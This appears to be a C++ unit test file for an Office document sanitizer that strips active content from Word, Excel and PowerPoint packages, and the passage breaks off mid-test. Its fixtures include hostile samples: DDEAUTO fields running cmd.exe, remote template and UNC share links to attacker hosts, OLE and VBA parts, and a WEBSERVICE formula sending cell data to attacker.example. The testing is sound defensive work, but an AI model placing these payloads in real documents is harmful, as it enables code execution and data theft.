  deck.part("ppt/slides/slide1.xml") = R"(<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>)";
  r = sanitize(deck.zip(), deck.name, {});
  EXPECT_EQ(r.verdict, Verdict::blocked);
  EXPECT_EQ(r.reason, "malformed");
}

TEST(CdrOoxmlParts, AGoodPictureIsKeptInEveryFormat) {
  for (const auto& f : kFormats) {
    Package p = with_picture(f, tiny_png());
    CdrResult r = sanitize(p.zip(), p.name, {});
    ASSERT_EQ(r.verdict, Verdict::clean) << f.ext << ": " << r.message << (r.findings.empty() ? "" : " " + std::string(to_string(r.findings[0].kind)) + " " + r.findings[0].location);
    auto parts = unzip(r.output);
    EXPECT_TRUE(parts.count(std::string(f.media) + "image1.png")) << f.ext;
    EXPECT_NE(parts[f.image_source].find("r:embed=\"rIdImg\""), std::string::npos) << f.ext;
    expect_safe_package(r.output, f.ext);
  }
}

// #14: a picture part that is a program, or XML (an HTML or SVG page), is dropped and reported,
// and the reference to it is cut.
TEST(CdrOoxmlParts, PicturesThatAreNotPicturesAreDroppedInEveryFormat) {
  const std::string exe = std::string("MZ\x90\x00\x03\x00\x00\x00", 8) + std::string(120, 'A') + "PE";
  const std::string svg = R"(<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>)";
  for (const auto& f : kFormats) {
    for (const auto& payload : {exe, svg}) {
      Package p = with_picture(f, payload);
      CdrResult r = sanitize(p.zip(), p.name, {});
      ASSERT_EQ(r.verdict, Verdict::sanitized) << f.ext << ": " << r.message;
      EXPECT_TRUE(kinds(r).count("part_type_mismatch")) << f.ext;
      auto parts = unzip(r.output);
      EXPECT_FALSE(parts.count(std::string(f.media) + "image1.png")) << f.ext;
      EXPECT_EQ(parts[f.image_source].find("rIdImg"), std::string::npos) << f.ext;
      for (const auto& [name, bytes] : parts) EXPECT_EQ(bytes.find("MZ\x90"), std::string::npos) << f.ext << " " << name;
      expect_safe_package(r.output, f.ext);
      EXPECT_EQ(sanitize(r.output, p.name, {}).verdict, Verdict::clean) << f.ext;
    }
  }
}

// #14: parts no relationship reaches — whatever their name or declared type — are dropped and
// reported; so is a part reached by a relationship whose required type it does not have.
TEST(CdrOoxmlParts, OrphanAndMistypedPartsAreDroppedInEveryFormat) {
  for (const auto& f : kFormats) {
    Package p = f.make();
    p.part(std::string(f.media) + "payload.exe") = "MZ this is not referenced";
    p.part("customXml/item1.xml") = "<x/>";
    p.overrides.emplace_back("customXml/item1.xml", "application/xml");
    // A theme relationship whose target says it is a picture.
    std::string main = p.rels[""][0].target;
    p.rels[main].push_back({"rIdT", "theme", "theme/theme1.xml"});
    std::string folder = main.substr(0, main.rfind('/') + 1);
    p.part(folder + "theme/theme1.xml") = tiny_png();
    p.overrides.emplace_back(folder + "theme/theme1.xml", "image/png");
    CdrResult r = sanitize(p.zip(), p.name, {});
    ASSERT_EQ(r.verdict, Verdict::sanitized) << f.ext << ": " << r.message;
    std::set<std::string> orphans, mistyped;
    for (const auto& finding : r.findings) {
      if (finding.kind == FindingKind::kOrphanPart) orphans.insert(finding.location);
      if (finding.kind == FindingKind::kPartTypeMismatch) mistyped.insert(finding.location);
    }
    EXPECT_TRUE(orphans.count(std::string(f.media) + "payload.exe")) << f.ext;
    EXPECT_TRUE(orphans.count("customXml/item1.xml")) << f.ext;
    EXPECT_TRUE(mistyped.count(folder + "theme/theme1.xml")) << f.ext;
    auto parts = unzip(r.output);
    EXPECT_FALSE(parts.count(std::string(f.media) + "payload.exe"));
    EXPECT_FALSE(parts.count("customXml/item1.xml"));
    EXPECT_FALSE(parts.count(folder + "theme/theme1.xml"));
    expect_safe_package(r.output, f.ext);
  }
}

// #21: the same hostile Word content with the namespaces bound to other prefixes (and to none).
TEST(CdrOoxmlNamespaces, FieldsAndObjectsAreFoundWhateverThePrefixes) {
  Package p = word("");
  p.part("word/document.xml") =
      R"(<q:document xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:z="http://schemas.openxmlformats.org/officeDocument/2006/relationships" xmlns:k="urn:schemas-microsoft-com:office:office"><q:body>)"
      R"(<q:p><q:r><q:fldChar q:fldCharType="begin"/></q:r><q:r><q:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</q:instrText></q:r><q:r><q:fldChar q:fldCharType="end"/></q:r></q:p>)"
      R"(<q:p><q:fldSimple q:instr=" INCLUDEPICTURE &quot;http://evil.example/a.png&quot; \d "><q:r><q:t>図</q:t></q:r></q:fldSimple></q:p>)"
      R"(<q:p><q:r><q:object><k:OLEObject Type="Embed" ProgID="Package" z:id="rIdS"/></q:object></q:r></q:p>)"
      R"(<p xmlns="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><fldSimple xmlns:w2="http://schemas.openxmlformats.org/wordprocessingml/2006/main" w2:instr="DDE cmd /c calc"><r><t>x</t></r></fldSimple></p>)"
      R"(</q:body></q:document>)";
  CdrResult r = sanitize(p.zip(), p.name, {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  auto k = kinds(r);
  for (const char* want : {"dde_field", "remote_field", "ole_object"}) EXPECT_TRUE(k.count(want)) << want;
  auto parts = unzip(r.output);
  const std::string& doc = parts["word/document.xml"];
  EXPECT_EQ(lower(doc).find("dde"), std::string::npos) << doc;
  EXPECT_EQ(doc.find("INCLUDEPICTURE"), std::string::npos);
  EXPECT_EQ(doc.find("OLEObject"), std::string::npos);
  EXPECT_NE(doc.find("<w:document"), std::string::npos) << "written with the canonical prefix";
  EXPECT_NE(doc.find("図"), std::string::npos) << "a field's result stays";
  expect_safe_package(r.output, "docx");
  EXPECT_EQ(sanitize(r.output, p.name, {}).verdict, Verdict::clean);
}

// #21: a prefix that looks like WordprocessingML but is bound elsewhere is not Word content; the
// real content under an unexpected prefix is.
TEST(CdrOoxmlNamespaces, PrefixesAreResolvedNotTrusted) {
  Package p = word("");
  p.part("word/document.xml") =
      R"(<x:document xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:w="urn:decoy"><x:body><x:p>)"
      R"(<w:fldSimple w:instr="PAGE"><x:r><x:t>kept</x:t></x:r></w:fldSimple>)"
      R"(<x:fldSimple x:instr="INCLUDETEXT &quot;\\\\attacker\\share\\a.docx&quot;"><x:r><x:t>result</x:t></x:r></x:fldSimple>)"
      R"(</x:p></x:body></x:document>)";
  CdrResult r = sanitize(p.zip(), p.name, {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_TRUE(kinds(r).count("remote_field"));
  EXPECT_TRUE(kinds(r).count("unknown_xml")) << "the decoy namespace's element is dropped";
  const std::string doc = unzip(r.output)["word/document.xml"];
  EXPECT_EQ(doc.find("INCLUDETEXT"), std::string::npos);
  EXPECT_EQ(doc.find("decoy"), std::string::npos);
  EXPECT_NE(doc.find("result"), std::string::npos);
  expect_safe_package(r.output, "docx");
}

// #21: markup compatibility — a Choice needing a namespace we do not know goes, its Fallback
// stays; a Choice we know stays; content in unknown namespaces goes.
TEST(CdrOoxmlNamespaces, AlternateContentKeepsKnownChoicesAndFallbacks) {
  Package p = word("");
  p.part("word/document.xml") =
      R"(<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:ev="urn:evil:ext" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" mc:Ignorable="w14 ev"><w:body>)"
      R"(<w:p w14:paraId="01020304"><mc:AlternateContent><mc:Choice Requires="ev"><ev:payload>run me</ev:payload></mc:Choice><mc:Fallback><w:r><w:t>fallback</w:t></w:r></mc:Fallback></mc:AlternateContent></w:p>)"
      R"(<w:p><mc:AlternateContent><mc:Choice Requires="w14"><w:r><w:t>choice</w:t></w:r></mc:Choice></mc:AlternateContent><ev:other/></w:p>)"
      R"(</w:body></w:document>)";
  CdrResult r = sanitize(p.zip(), p.name, {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_TRUE(kinds(r).count("unknown_xml"));
  const std::string doc = unzip(r.output)["word/document.xml"];
  EXPECT_EQ(doc.find("run me"), std::string::npos);
  EXPECT_EQ(doc.find("urn:evil"), std::string::npos);
  EXPECT_NE(doc.find("fallback"), std::string::npos);
  EXPECT_NE(doc.find("<mc:Choice Requires=\"w14\"><w:r><w:t>choice"), std::string::npos) << doc;
  EXPECT_NE(doc.find("mc:Ignorable=\"w14\""), std::string::npos) << doc;
  EXPECT_NE(doc.find("w14:paraId"), std::string::npos);
  expect_safe_package(r.output, "docx");
  EXPECT_EQ(sanitize(r.output, p.name, {}).verdict, Verdict::clean);
}

// #21: the package by its relationship graph — forbidden relationship types and the elements that
// use them go, in every format; the macro-enabled main type becomes macro-free even when it comes
// from a Default entry.
TEST(CdrOoxmlPackage, ForbiddenRelationshipsAndTheirElementsGo) {
  Package p = word(R"(<w:altChunk r:id="rIdAlt"/><w:p><w:r><w:t>本文</w:t></w:r></w:p>)");
  p.overrides.erase(p.overrides.begin());
  p.defaults += R"(<Default Extension="xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>)";
  p.overrides.emplace_back("word/styles.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml");
  p.overrides.emplace_back("word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml");
  p.rels["word/document.xml"].push_back({"rIdAlt", "aFChunk", "afchunk.mht"});
  p.rels["word/document.xml"].push_back({"rIdSet", "settings", "settings.xml"});
  p.rels["word/document.xml"].push_back({"rIdVba", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin"});
  p.rels[""].push_back({"rIdWe", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml"});
  p.rels["word/settings.xml"] = {{"rIdT", "attachedTemplate", "file:///C:/evil.dotm", true},
                                 {"rIdM", "mailMergeSource", "file:///C:/data.xlsx", true}};
  p.part("word/afchunk.mht") = "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>x</script>";
  p.part("word/vbaProject.bin") = std::string("\xD0\xCF\x11\xE0", 4);
  p.part("word/webextensions/taskpanes.xml") = "<wetp:taskpanes xmlns:wetp=\"http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11\"/>";
  p.part("word/settings.xml") = std::string("<w:settings xmlns:w=\"") + kWordNs + "\" xmlns:r=\"" + kRelNs +
                                "\"><w:attachedTemplate r:id=\"rIdT\"/><w:mailMerge><w:dataSource r:id=\"rIdM\"/><w:connectString w:val=\"Provider=x;Data Source=\\\\attacker\\db\"/></w:mailMerge></w:settings>";
  p.name = "a.docm";
  CdrResult r = sanitize(p.zip(), p.name, {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_EQ(r.output_name, "a.docx");
  auto k = kinds(r);
  for (const char* want : {"alt_chunk", "vba_macro", "web_extension", "external_template", "mail_merge", "macro_enabled_type"}) EXPECT_TRUE(k.count(want)) << want;
  auto parts = unzip(r.output);
  for (const char* gone : {"word/afchunk.mht", "word/vbaProject.bin", "word/webextensions/taskpanes.xml"}) EXPECT_FALSE(parts.count(gone)) << gone;
  EXPECT_EQ(parts["word/settings.xml"].find("connectString"), std::string::npos);
  EXPECT_NE(parts["[Content_Types].xml"].find("wordprocessingml.document.main+xml"), std::string::npos);
  expect_safe_package(r.output, "docm");
  EXPECT_EQ(sanitize(r.output, r.output_name, {}).verdict, Verdict::clean);

  Package deck = slides(R"(<p:sp><p:nvSpPr><p:cNvPr id="2" name="b"><a:hlinkClick r:id="" action="ppaction://program"/></p:cNvPr></p:nvSpPr></p:sp>)"
                        R"(<p:sp><p:nvSpPr><p:cNvPr id="3" name="c"><a:hlinkClick r:id="rIdL"/></p:cNvPr></p:nvSpPr></p:sp>)"
                        R"(<p:graphicFrame><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/presentationml/2006/ole"><p:oleObj r:id="rIdO" progId="Package"/></a:graphicData></a:graphic></p:graphicFrame>)");
  deck.rels["ppt/slides/slide1.xml"] = {{"rIdL", "hyperlink", "search-ms:query=invoice&crumb=location:\\\\attacker\\share", true},
                                        {"rIdO", "oleObject", "../embeddings/oleObject1.bin"}};
  deck.part("ppt/embeddings/oleObject1.bin") = std::string("\xD0\xCF\x11\xE0", 4);
  r = sanitize(deck.zip(), deck.name, {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  for (const char* want : {"ppaction", "ole_object", "external_relationship"}) EXPECT_TRUE(kinds(r).count(want)) << want;
  parts = unzip(r.output);
  EXPECT_EQ(parts["ppt/slides/slide1.xml"].find("oleObj"), std::string::npos);
  EXPECT_EQ(parts["ppt/slides/slide1.xml"].find("rIdL"), std::string::npos);
  expect_safe_package(r.output, "pptx");
}

TEST(CdrOoxmlPackage, ContentTypesThatContradictThemselvesBlock) {
  Package p = word("<w:p/>");
  p.overrides.emplace_back("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml");
  CdrResult r = sanitize(p.zip(), p.name, {});
  EXPECT_EQ(r.verdict, Verdict::blocked);
  EXPECT_EQ(r.reason, "malformed");
  EXPECT_NE(r.message.find("Override"), std::string::npos) << r.message;
  Package same = word("<w:p/>");
  same.overrides.push_back(same.overrides.front());  // a harmless repeat
  EXPECT_EQ(sanitize(same.zip(), same.name, {}).verdict, Verdict::clean);
}

// #21: member names that Office or the zip layer would read as another name are refused.
TEST(CdrOoxmlPackage, AmbiguousMemberNamesBlock) {
  Package base = word("<w:p/>");
  for (const std::string bad : {"word\\document2.xml", "/word/x.xml", "word/../x.xml", "word/./x.xml", "WORD/DOCUMENT.XML", "word/x%2fy.xml", "word/media/a.png."}) {
    std::vector<fixtures::RawMember> members;
    for (const auto& [name, bytes] : unzip(base.zip())) members.push_back({name, bytes});
    members.push_back({bad, "<x/>"});
    CdrResult r = sanitize(fixtures::raw_zip(members), "a.docx", {});
    EXPECT_EQ(r.verdict, Verdict::blocked) << bad;
    EXPECT_EQ(r.reason, "malformed") << bad;
  }
}

// #21: external targets are kept only for hyperlinks to web and mail addresses.
TEST(CdrOoxmlPackage, OnlyWebAndMailHyperlinksStay) {
  Package p = word(R"(<w:p><w:hyperlink r:id="rIdA"><w:r><w:t>a</w:t></w:r></w:hyperlink><w:hyperlink r:id="rIdB"><w:r><w:t>b</w:t></w:r></w:hyperlink>)"
                   R"(<w:hyperlink r:id="rIdC"><w:r><w:t>c</w:t></w:r></w:hyperlink><w:hyperlink r:id="rIdD"><w:r><w:t>d</w:t></w:r></w:hyperlink>)"
                   R"(<w:hyperlink r:id="rIdE"><w:r><w:t>e</w:t></w:r></w:hyperlink><w:r><w:drawing><a:blip r:link="rIdF"/></w:drawing></w:r><w:r><w:drawing><a:blip r:embed="rIdA"/></w:drawing></w:r></w:p>)");
  p.rels["word/document.xml"].push_back({"rIdA", "hyperlink", "https://www.city.minamata.lg.jp/", true});
  p.rels["word/document.xml"].push_back({"rIdB", "hyperlink", "mailto:soumu@city.example.jp", true});
  p.rels["word/document.xml"].push_back({"rIdC", "hyperlink", "file://attacker/share/x.exe", true});
  p.rels["word/document.xml"].push_back({"rIdD", "hyperlink", "\\\\attacker\\share\\x.lnk", true});
  p.rels["word/document.xml"].push_back({"rIdE", "hyperlink", "search-ms:query=x", true});
  p.rels["word/document.xml"].push_back({"rIdF", "image", "http://attacker.example/track.png", true});
  CdrResult r = sanitize(p.zip(), p.name, {});
  ASSERT_EQ(r.verdict, Verdict::sanitized);
  auto parts = unzip(r.output);
  const std::string& rels = parts["word/_rels/document.xml.rels"];
  EXPECT_NE(rels.find("minamata"), std::string::npos);
  EXPECT_NE(rels.find("mailto:"), std::string::npos);
  for (const char* gone : {"file:", "attacker", "search-ms"}) EXPECT_EQ(rels.find(gone), std::string::npos) << gone;
  EXPECT_EQ(parts["word/document.xml"].find("rIdF"), std::string::npos);
  EXPECT_NE(parts["word/document.xml"].find(R"(<w:hyperlink r:id="rIdA")"), std::string::npos);
  EXPECT_EQ(parts["word/document.xml"].find(R"(r:embed="rIdA")"), std::string::npos) << "a picture naming a web link would be fetched";
  expect_safe_package(r.output, "docx");
}

// #21: fields are judged by what Word would run after evaluating nested fields: a DDEAUTO built
// by a nested QUOTE goes, HYPERLINK fields keep only web and mail targets, harmless fields stay.
TEST(CdrOoxmlFields, NestedFieldsAndHyperlinkTargetsAreJudged) {
  auto field = [](const std::string& begin_instr, const std::string& nested, const std::string& rest, const std::string& result) {
    std::string x = R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>)";
    if (!begin_instr.empty()) x += "<w:r><w:instrText xml:space=\"preserve\">" + begin_instr + "</w:instrText></w:r>";
    if (!nested.empty()) {
      x += R"(<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve">)" + nested +
           R"(</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>nested-result</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>)";
    }
    x += "<w:r><w:instrText xml:space=\"preserve\">" + rest + R"(</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>)" + result +
         R"(</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)";
    return x;
  };
  const std::string body = field("", "QUOTE \"DDE\"", "AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", "R-QUOTE") +
                           field(" HYPERLINK ", "QUOTE \"file://attacker/x\"", "", "R-COMPUTED-LINK") +
                           field(" HYPERLINK \"file:///C:/Windows/System32/calc.exe\" ", "", "", "R-FILE") +
                           field(" HYPERLINK \"\\\\\\\\attacker\\\\share\" ", "", "", "R-UNC") +
                           field(" HYPERLINK \\l \"x\" \"search-ms:query=x\" ", "", "", "R-SEARCH") +
                           field(" MACROBUTTON AutoOpen click ", "", "", "R-MACRO") +
                           field(" HYPERLINK \"https://www.city.minamata.lg.jp/\" ", "", "", "R-WEB") +
                           field(" IF 1 = 1 ", "PAGE", " \"yes\" \"no\" ", "R-IF") + field(" PAGE ", "", "", "R-PAGE") +
                           R"(<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:name w:val="F"/><w:entryMacro w:val="AutoRun"/></w:ffData></w:fldChar></w:r>)"
                           R"(<w:r><w:instrText> FORMTEXT </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)";
  Package p = word(body);
  CdrResult r = sanitize(p.zip(), p.name, {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  std::map<std::string, int> counts;
  for (const auto& f : r.findings) counts[std::string(to_string(f.kind))]++;
  EXPECT_EQ(counts["computed_field"], 2);
  EXPECT_EQ(counts["external_relationship"], 3);
  EXPECT_EQ(counts["field"], 1);
  const std::string doc = unzip(r.output)["word/document.xml"];
  for (const char* gone : {"AUTO", "DDE", "file:", "attacker", "search-ms", "MACROBUTTON", "entryMacro"}) EXPECT_EQ(doc.find(gone), std::string::npos) << gone;
  EXPECT_NE(doc.find("FORMTEXT"), std::string::npos) << "a form field stays, without its macro";
  for (const char* kept : {"R-QUOTE", "R-COMPUTED-LINK", "R-FILE", "R-UNC", "R-SEARCH", "R-MACRO", "R-WEB", "R-IF", "R-PAGE", "https://www.city.minamata.lg.jp/", "IF 1 = 1", " PAGE "}) {
    EXPECT_NE(doc.find(kept), std::string::npos) << kept;
  }
  expect_safe_package(r.output, "docx");
  EXPECT_EQ(sanitize(r.output, p.name, {}).verdict, Verdict::clean);
}

// Part names compare without case (Office opens "DocProps/Core.xml" for docProps/core.xml); a part
// reached that way is kept, and what comes out is clean on a second pass.
TEST(CdrOoxmlPackage, PartNamesCompareWithoutCase) {
  Package p = word("<w:p><w:r><w:t>x</w:t></w:r></w:p>");
  p.part("word/document.xml") = std::string(R"(<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" mc:Ignorable="w14"><w:body><w:p w14:paraId="1"/></w:body></w:document>)");
  p.rels[""].push_back({"rId2", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "DocProps/Core.XML"});
  p.part("docProps/core.xml") = R"(<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:t="http://purl.org/dc/terms/" xmlns:i="http://www.w3.org/2001/XMLSchema-instance"><dc:title>見積</dc:title><t:created i:type="t:W3CDTF">2026-01-01T00:00:00Z</t:created></cp:coreProperties>)";
  p.overrides.emplace_back("docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml");
  // A picture whose name has a space and Japanese: the target names it percent-encoded.
  p.rels["word/document.xml"].push_back({"rIdP", "image", "Media/%E5%9B%B3%201.PNG"});
  p.part("word/media/図 1.png") = tiny_png();
  CdrResult r = sanitize(p.zip(), p.name, {});
  ASSERT_EQ(r.verdict, Verdict::clean) << r.message << (r.findings.empty() ? "" : " " + std::string(to_string(r.findings[0].kind)) + " " + r.findings[0].location);
  auto parts = unzip(r.output);
  ASSERT_TRUE(parts.count("docProps/core.xml"));
  EXPECT_NE(parts["docProps/core.xml"].find(R"(xsi:type="dcterms:W3CDTF")"), std::string::npos) << "a QName value follows the prefix rename";
  EXPECT_NE(parts["word/document.xml"].find("xmlns:mc="), std::string::npos) << "mc:Ignorable's own namespace is declared";
  EXPECT_TRUE(parts.count("word/media/図 1.png"));
  EXPECT_NE(parts["word/_rels/document.xml.rels"].find(R"(Target="media/%E5%9B%B3%201.png")"), std::string::npos) << parts["word/_rels/document.xml.rels"];
  expect_safe_package(r.output, "docx");
  CdrResult again = sanitize(r.output, p.name, {});
  EXPECT_EQ(again.verdict, Verdict::clean) << (again.findings.empty() ? again.message : std::string(to_string(again.findings[0].kind)) + " " + again.findings[0].location);
}

// Formulas that reach outside the workbook go (their cached values stay); ordinary ones stay.
TEST(CdrOoxmlPackage, FormulasThatCallOutsideGo) {
  Package p = sheet(R"(<row r="1"><c r="A1"><f>_xlfn.WEBSERVICE("http://attacker.example/?"&amp;B1)</f><v>1</v></c><c r="B1"><f>rtd ("srv.exe",,"topic")</f><v>2</v></c>)"
                    R"(<c r="C1"><f>SUM(A1:B1)</f><v>3</v></c><c r="D1"><f>CALLBACKS(1)+MY.RTD(2)</f><v>4</v></c></row>)");
  CdrResult r = sanitize(p.zip(), p.name, {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_TRUE(kinds(r).count("external_formula"));
  const std::string x = unzip(r.output)["xl/worksheets/sheet1.xml"];
  EXPECT_EQ(x.find("WEBSERVICE"), std::string::npos);
  EXPECT_EQ(x.find("rtd ("), std::string::npos);
  EXPECT_NE(x.find("SUM(A1:B1)"), std::string::npos);
  EXPECT_NE(x.find("CALLBACKS(1)+MY.RTD(2)"), std::string::npos) << "names that only contain a function's name stay";
  EXPECT_NE(x.find("<v>1</v>"), std::string::npos) << "the cached value stays";
}

// A field marker spelled in another case is still a field marker.
TEST(CdrOoxmlFields, FieldMarkersAreMatchedWithoutCase) {
  Package p = word(R"(<w:p><w:r><w:fldChar w:fldCharType="Begin"/></w:r><w:r><w:instrText>DDEAUTO cmd "/c calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="END"/></w:r></w:p>)");
  CdrResult r = sanitize(p.zip(), p.name, {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_TRUE(kinds(r).count("dde_field"));
  EXPECT_EQ(unzip(r.output)["word/document.xml"].find("DDEAUTO"), std::string::npos);
}

// #21: a relationship type is followed only from the part types that may hold it (ECMA-376
// Part 1, "Source Relationship"): a header reaching a VML drawing, settings reaching a header,
// the document reaching a worksheet, a picture with relationships of its own — each goes, and
// what it reached goes with it unless an allowed relationship reaches it too.
TEST(CdrOoxmlPackage, RelationshipsAreFollowedOnlyFromPartTypesThatMayHoldThem) {
  Package p = word(R"(<w:p><w:r><w:drawing><a:blip r:embed="rIdImg"/></w:drawing></w:r></w:p><w:sectPr><w:headerReference w:type="default" r:id="rIdH"/></w:sectPr>)");
  const std::string hdr = std::string("<w:hdr xmlns:w=\"") + kWordNs + "\" xmlns:r=\"" + kRelNs + "\"><w:p><w:r><w:t>ヘッダー</w:t></w:r></w:p></w:hdr>";
  p.overrides.emplace_back("word/header1.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml");
  p.overrides.emplace_back("word/header2.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml");
  p.overrides.emplace_back("word/settings.xml", "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml");
  p.overrides.emplace_back("word/vml1.xml", "application/vnd.openxmlformats-officedocument.vmlDrawing");
  p.overrides.emplace_back("word/sheet.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml");
  p.overrides.emplace_back("word/media/evil.png", "application/vnd.ms-office.vbaProject");
  p.rels["word/document.xml"].push_back({"rIdH", "header", "header1.xml"});
  p.rels["word/document.xml"].push_back({"rIdSet", "settings", "settings.xml"});
  p.rels["word/document.xml"].push_back({"rIdWs", "worksheet", "sheet.xml"});
  p.rels["word/document.xml"].push_back({"rIdImg", "image", "media/image1.png"});
  p.rels["word/document.xml"].push_back({"rIdEvil", "image", "media/evil.png"});  // an allowed type to a part of the wrong type
  p.rels["word/header1.xml"] = {{"rIdV", "vmlDrawing", "vml1.xml"}};
  p.rels["word/settings.xml"] = {{"rIdH2", "header", "header2.xml"}};
  p.rels["word/media/image1.png"] = {{"rIdX", "image", "evil.png"}};
  p.part("word/header1.xml") = hdr;
  p.part("word/header2.xml") = hdr;
  p.part("word/settings.xml") = std::string("<w:settings xmlns:w=\"") + kWordNs + "\"/>";
  p.part("word/vml1.xml") = R"(<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="s"/></xml>)";
  p.part("word/sheet.xml") = R"(<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>)";
  p.part("word/media/image1.png") = tiny_png();
  p.part("word/media/evil.png") = tiny_png();
  CdrResult r = sanitize(p.zip(), p.name, {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  std::set<std::string> misplaced, mistyped;
  for (const auto& f : r.findings) {
    if (f.kind == FindingKind::kMisplacedRelationship) misplaced.insert(f.location);
    if (f.kind == FindingKind::kPartTypeMismatch) mistyped.insert(f.location);
  }
  EXPECT_TRUE(misplaced.count("word/_rels/header1.xml.rels#rIdV")) << "a header does not hold VML drawings";
  EXPECT_TRUE(misplaced.count("word/_rels/settings.xml.rels#rIdH2")) << "settings do not hold headers";
  EXPECT_TRUE(misplaced.count("word/_rels/document.xml.rels#rIdWs")) << "a Word document does not hold worksheets";
  EXPECT_TRUE(misplaced.count("word/media/_rels/image1.png.rels")) << "a picture has no relationships";
  EXPECT_TRUE(mistyped.count("word/media/evil.png"));
  // A second reader: the package as written, part by part.
  auto parts = unzip(r.output);
  for (const char* gone : {"word/vml1.xml", "word/header2.xml", "word/sheet.xml", "word/media/evil.png", "word/media/_rels/image1.png.rels",
                           "word/_rels/header1.xml.rels", "word/_rels/settings.xml.rels"}) {
    EXPECT_FALSE(parts.count(gone)) << gone;
  }
  for (const char* kept : {"word/header1.xml", "word/settings.xml", "word/media/image1.png"}) EXPECT_TRUE(parts.count(kept)) << kept;
  const std::string& types = parts["[Content_Types].xml"];
  EXPECT_EQ(types.find("vmlDrawing"), std::string::npos);
  EXPECT_EQ(types.find("worksheet"), std::string::npos);
  expect_safe_package(r.output, "docx");
  EXPECT_TRUE(internal::package_active_content(r.output).empty());
  EXPECT_EQ(sanitize(r.output, p.name, {}).verdict, Verdict::clean);

  // The same rule in a workbook: shared strings hold no relationships, a drawing may hold a picture.
  Package book = with_picture(kFormats[1], tiny_png());
  book.overrides.emplace_back("xl/sharedStrings.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml");
  book.overrides.emplace_back("xl/worksheets/sheet2.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml");
  book.rels["xl/workbook.xml"].push_back({"rIdSS", "sharedStrings", "sharedStrings.xml"});
  book.rels["xl/sharedStrings.xml"] = {{"rIdW", "worksheet", "worksheets/sheet2.xml"}};
  book.part("xl/sharedStrings.xml") = R"(<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>)";
  book.part("xl/worksheets/sheet2.xml") = R"(<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData/></worksheet>)";
  r = sanitize(book.zip(), book.name, {});
  ASSERT_EQ(r.verdict, Verdict::sanitized) << r.message;
  EXPECT_TRUE(kinds(r).count("misplaced_relationship"));
  parts = unzip(r.output);
  EXPECT_FALSE(parts.count("xl/worksheets/sheet2.xml"));
  EXPECT_TRUE(parts.count("xl/media/image1.png")) << "a drawing may hold a picture";
  EXPECT_TRUE(parts.count("xl/sharedStrings.xml"));
  expect_safe_package(r.output, "xlsx");
}

// #21: [Content_Types].xml part names and relationship targets are URIs: they are compared
// percent-decoded and without ASCII case, as OPC compares them, so an encoded or re-cased
// duplicate cannot give a part a second type, and an encoded name reaches its part.
TEST(CdrOoxmlPackage, PartNamesAreComparedDecodedAndWithoutCase) {
  const std::string worksheet_type = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml";
  const std::string macrosheet_type = "application/vnd.ms-excel.macrosheet+xml";
  const std::string encoded = "xl/worksheets/%E3%82%B7%E3%83%BC%E3%83%88.xml";  // シート.xml
  auto japanese_sheet = [&] {
